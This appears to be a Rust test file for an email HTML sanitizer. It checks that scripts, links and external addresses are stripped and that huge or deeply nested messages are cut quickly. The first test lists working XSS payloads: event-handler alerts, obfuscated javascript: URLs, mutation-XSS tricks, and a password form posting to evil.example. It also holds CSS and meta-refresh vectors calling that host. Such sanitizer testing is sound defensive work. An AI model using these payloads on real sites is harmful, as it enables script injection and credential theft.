//! What nobody writes by mistake.

use std::time::{Duration, Instant};

use proptest::prelude::*;
use shared::rich_text::RichText;

use super::*;

/// Whether every bound of the contract holds: decoding checks them.
fn is_within_bounds(reading: &Reading) -> bool {
    [&reading.body, &reading.quoted]
        .into_iter()
        .all(|text| serde_json::to_vec(text).is_ok_and(|json| serde_json::from_slice::<RichText>(&json).is_ok()))
}

#[test]
fn scripts_leave_nothing_but_text() {
    for html in [
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href='java&#x0A;script:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<scr<script>ipt>alert(1)</script>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form action=https://evil.example><input name=password><button>go</button></form>",
        "<style>@import 'https://evil.example'</style>",
        "<base href=https://evil.example><a href=/x>x</a>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<object data=javascript:alert(1)>",
        "<b style='background:url(https://evil.example)'>x</b>",
    ] {
        let json = body(html);
        // Characters may remain as characters; no address and no markup may.
        assert!(
            !json.contains("href") && !json.contains("evil.example") && !json.contains("image"),
            "{html} gave {json}"
        );
    }
}

#[test]
fn large_and_deep_messages_are_cut_and_quick() {
    let attack = |html: String| {
        let start = Instant::now();
        let reading = reading(&html);
        let name: String = html.chars().take(24).collect();
        assert!(start.elapsed() < Duration::from_secs(60), "{name} took {:?}", start.elapsed());
        assert!(is_within_bounds(&reading), "{name}");
        reading
    };
    assert!(attack("<div>".repeat(50_000)).body.is_empty());
    assert_eq!(attack(format!("{}deep", "<blockquote>".repeat(5_000))).body.plain_text(10), "deep");
    assert_eq!(attack(format!("{}deep", "<ul><li>".repeat(5_000))).body.plain_text(10), "deep");
    assert!(attack(format!("{}deep", "<table><tr><td>".repeat(5_000))).body.plain_text(10).contains("deep"));
    assert!(attack("<b>x</b><i>y</i>".repeat(30_000)).truncated);
    assert!(attack("<p>x".repeat(30_000)).truncated);
    let formatting: String = (0..3_000).map(|n| format!("<font a{n}>")).collect();
    attack(format!("{formatting}{}", "<p>x".repeat(10_000)));
    attack(format!("<a {}>", (0..30_000).map(|n| format!("a{n} ")).collect::<String>()));
    attack("<a href=\"".repeat(30_000));
    attack("<!--".repeat(50_000));
    attack("&".repeat(100_000));
    attack(format!("{}#}}", "{#".repeat(100_000)));
    attack("desk.example".repeat(10_000));
    attack("desk.example ".repeat(10_000));
    attack("<br>".repeat(50_000));
    attack(format!("<p>{}", "From: ".repeat(30_000)));
    attack("From: x<br>".repeat(20_000));
    attack("> x\n".repeat(30_000));
    attack("> x\n\n".repeat(30_000));
    let long = attack("\u{e4}".repeat(300_000));
    assert!(long.truncated && long.body.plain_text(usize::MAX).chars().all(|c| c == 'ä'));
    let bytes = "<p>word</p>".repeat(3_000);
    assert!(!attack(bytes).truncated);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn any_text_is_read(html in "\\PC{0,200}") {
        prop_assert!(is_within_bounds(&reading(&html)));
    }

    #[test]
    fn any_markup_is_read(parts in proptest::collection::vec(fragment(), 0..60)) {
        let html = parts.concat();
        let reading = reading(&html);
        prop_assert!(is_within_bounds(&reading));
        let json = serde_json::to_string(&(&reading.body, &reading.quoted)).unwrap();
        let leads_elsewhere = json.split("\"href\":\"").skip(1).any(|href| !href.starts_with("https://raxx.app/"));
        prop_assert!(!leads_elsewhere && !json.to_lowercase().contains(HOST), "{}", json);
    }

    /// Words outside of hidden elements all come out, in their order.
    #[test]
    fn no_word_is_lost(parts in proptest::collection::vec(visible_fragment(), 0..60)) {
        let html = parts.concat();
        let reading = reading(&html);
        let mut out = reading.body.plain_text(100_000);
        out.push_str(&reading.quoted.plain_text(100_000));
        let words = |text: &str| text.chars().filter(char::is_ascii_uppercase).collect::<String>();
        prop_assert_eq!(words(&out), words(&parts.iter().filter(|part| !part.contains('<')).cloned().collect::<String>()));
    }
}

fn fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => visible_fragment(),
        1 => prop_oneof![
            Just("<script>".to_owned()), Just("</script>".to_owned()), Just("<!--".to_owned()), Just("-->".to_owned()),
            Just("<style>".to_owned()), Just("</style>".to_owned()), Just("<textarea>".to_owned()), Just("<title>".to_owned()),
            Just("<div style='display:none'>".to_owned()), Just("<svg>".to_owned()), Just("<math>".to_owned()),
            Just("<a href='javascript:x'>".to_owned()), Just("<a href='https://desk.example/'>".to_owned()),
            Just("https://desk.example/x ".to_owned()), Just("<img src='https://desk.example/storage/attachment/1/a.png?id=7'>".to_owned()),
            Just("<template>".to_owned()), Just("<select>".to_owned()), Just("<head>".to_owned()), Just("<body>".to_owned()),
            "<[a-z]{1,3}[ =\"'/a-z]{0,10}>?".prop_map(|tag| tag),
            "&[a-z#0-9]{0,6};?".prop_map(|entity| entity),
        ],
    ]
}

fn visible_fragment() -> impl Strategy<Value = String> {
    let tags = prop_oneof![
        Just("p"),
        Just("div"),
        Just("b"),
        Just("i"),
        Just("a"),
        Just("ul"),
        Just("ol"),
        Just("li"),
        Just("blockquote"),
        Just("table"),
        Just("tr"),
        Just("td"),
        Just("pre"),
        Just("code"),
        Just("h2"),
        Just("span"),
        Just("dl"),
        Just("dt"),
        Just("dd"),
        Just("center"),
    ];
    prop_oneof![
        3 => "[A-Z]{1,4} ".prop_map(|word| word),
        2 => (tags, any::<bool>()).prop_map(|(tag, end)| if end { format!("</{tag}>") } else { format!("<{tag}>") }),
        1 => prop_oneof![
            Just("<br>".to_owned()), Just("<hr>".to_owned()), Just("\n".to_owned()), Just("&nbsp;".to_owned()), Just("> ".to_owned()),
            Just("<blockquote type=cite>".to_owned()), Just("<div class=gmail_quote>".to_owned()), Just("<p class=MsoNormal>".to_owned()),
            Just("<a href='https://raxx.app/x'>".to_owned()),
        ],
    ]
}
